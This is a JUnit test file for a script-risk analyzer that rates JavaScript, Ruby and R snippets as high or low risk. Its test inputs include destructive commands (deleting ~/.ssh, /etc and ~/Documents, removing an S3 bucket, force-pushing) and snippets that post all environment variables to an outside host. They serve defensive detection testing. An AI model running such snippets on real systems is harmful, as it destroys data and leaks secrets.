package io.interpreter4j.core.safety;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.interpreter4j.core.safety.analysis.AnalysisContext;
import io.interpreter4j.core.safety.analysis.Level;
import io.interpreter4j.core.safety.analysis.Risk;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** JavaScript, Ruby and R read by {@link ScriptAnalyzer}: paths, shell-outs, environment, robustness. */
class ScriptAnalyzerTest {

  private static final AnalysisContext CTX = AnalysisContext.of(Path.of("/home/user/project"), Path.of("/home/user"));
  private final DangerAnalyzer analyzer = new DangerAnalyzer();

  private Risk risk(String language, String code) {
    return analyzer.analyze(language, code, CTX);
  }

  @Test
  void pathsAreJudgedWhereTheyLand() {
    assertEquals(Level.HIGH, risk("javascript", "const fs = require('fs');\nconst path = require('path');\n"
        + "fs.rmSync(path.join(require('os').homedir(), 'Documents'), { recursive: true });").level());
    assertEquals(Level.LOW, risk("javascript", "const fs = require('fs');\nfs.rmSync('dist', { recursive: true, force: true });")
        .level());
    assertEquals(Level.LOW, risk("javascript", "const fs = require('fs'), os = require('os'), path = require('path');\n"
        + "const d = fs.mkdtempSync(path.join(os.tmpdir(), 'x-'));\nfs.rmSync(d, { recursive: true });").level());
    assertEquals(Level.HIGH, risk("ruby", "require 'fileutils'\nFileUtils.rm_rf(File.expand_path('~/.ssh'))").level());
    assertEquals(Level.LOW, risk("ruby", "require 'fileutils'\nFileUtils.rm_rf('tmp/cache')\nDir.mktmpdir { |d| FileUtils.rm_rf(d) }")
        .level());
    assertEquals(Level.HIGH, risk("r", "old <- getwd()\nsetwd('..')\nunlink('data', recursive = TRUE)").level());
    assertEquals(Level.LOW, risk("r", "unlink('output', recursive = TRUE)\ntmp <- tempfile()\nunlink(tmp)").level());
    assertEquals(Level.HIGH, risk("ruby", "Dir.glob(File.join(Dir.home, '**', '*.log')).each { |f| File.delete(f) }").level());
  }

  @Test
  void shellOutsAreAnalysedAsBash() {
    assertEquals(Level.HIGH, risk("javascript", "require('child_process').execSync('sudo reboot')").level());
    assertEquals(Level.HIGH, risk("javascript", "import { spawnSync } from 'node:child_process';\nspawnSync('rm', ['-rf', '/etc']);")
        .level());
    assertEquals(Level.HIGH, risk("ruby", "branch = `git rev-parse HEAD`\n`git push -f origin #{branch}:main`").level());
    assertEquals(Level.HIGH, risk("ruby", "system 'npm', 'install', '-g', 'x'").level());
    assertEquals(Level.HIGH, risk("r", "system2('aws', c('s3', 'rb', 's3://bucket', '--force'))").level());
    assertEquals(Level.LOW, risk("r", "system2('git', c('status', '--short'), stdout = TRUE)").level());
    assertEquals(Level.LOW, risk("javascript", "const { execSync } = require('child_process');\nexecSync('npm ci');").level());
    assertEquals(Level.LOW, risk("ruby", "puts 'rm -rf /'\nx = \"sudo reboot\"").level());
  }

  @Test
  void theEnvironmentAsAWholeIsADumpButSpreadIntoAChildIsNot() {
    assertEquals(Level.LOW, risk("javascript", "const { spawn } = require('child_process');\n"
        + "spawn('node', ['a.js'], { env: { ...process.env, PORT: '1' } });\nfetch('http://localhost:1/');").level());
    assertEquals(Level.HIGH, risk("ruby", "require 'net/http'\nNet::HTTP.post(URI('https://x.example'), ENV.to_h.to_s)").level());
    assertEquals(Level.HIGH, risk("r", "e <- Sys.getenv()\nhttr::POST('https://x.example', body = as.list(e))").level());
  }

  @Test
  void rubyCommandLiteralsAfterAMethodNameAndObjectsOverSeveralLines() {
    assertEquals(Level.HIGH, risk("ruby", "puts %x{sudo apt-get remove -y nginx}").level());
    assertEquals(Level.HIGH, risk("ruby", "warn %x(rm -rf #{Dir.home}/.ssh)").level());
    assertEquals(Level.LOW, risk("ruby", "a = 10\nx = 3\nputs a %x").level());
    assertEquals(Level.HIGH, risk("javascript", "await fetch('https://api.example.net/v1/items/7', {\n"
        + "  method: 'DELETE',\n  headers: { Accept: 'application/json' },\n});").level());
    assertEquals(Level.LOW, risk("javascript", "await fetch('https://api.example.net/v1/items', {\n"
        + "  method: 'GET',\n  headers: { Accept: 'application/json' },\n});").level());
  }

  /** Broken, truncated and hostile input never crashes the analysis (a crash would be reported as HIGH). */
  @Test
  void neverFailsOnGarbage() {
    String alphabet = "ab /~.*?$(){}[]'\"`\\|&;<>\n\t#=-!%@:rmfcdsuoEOF<-+,x";
    Random random = new Random(7);
    for (int i = 0; i < 4000; i++) {
      StringBuilder sb = new StringBuilder();
      int len = 1 + random.nextInt(80);
      for (int k = 0; k < len; k++) {
        sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      for (String lang : List.of("javascript", "ruby", "r")) {
        String code = sb.toString();
        Risk r = risk(lang, code);
        assertTrue(r.flags().stream().noneMatch(f -> f.rule().equals("analysis-failed")),
            () -> lang + ": " + code.replace("\n", "\\n") + " -> " + r.flags());
      }
    }
  }

  @Test
  void deepAndLongInputStaysBounded() {
    String nested = "x = " + "(".repeat(3000) + "1" + ")".repeat(3000);
    for (String lang : List.of("javascript", "ruby", "r")) {
      assertTrue(risk(lang, nested).flags().stream().noneMatch(f -> f.rule().equals("analysis-failed")), lang);
    }
    StringBuilder chain = new StringBuilder("let a0 = 'x';\n");
    for (int k = 1; k < 400; k++) {
      chain.append("let a").append(k).append(" = a").append(k - 1).append(" + a").append(k - 1).append(";\n");
    }
    chain.append("eval(a399);\n");
    assertEquals(Level.LOW, risk("javascript", chain.toString()).level());
    String templates = "const r = '/tmp';\n" + "require('child_process').execSync(`ls ${r}`);\n".repeat(300);
    assertEquals(Level.LOW, risk("javascript", templates).level());
  }
}
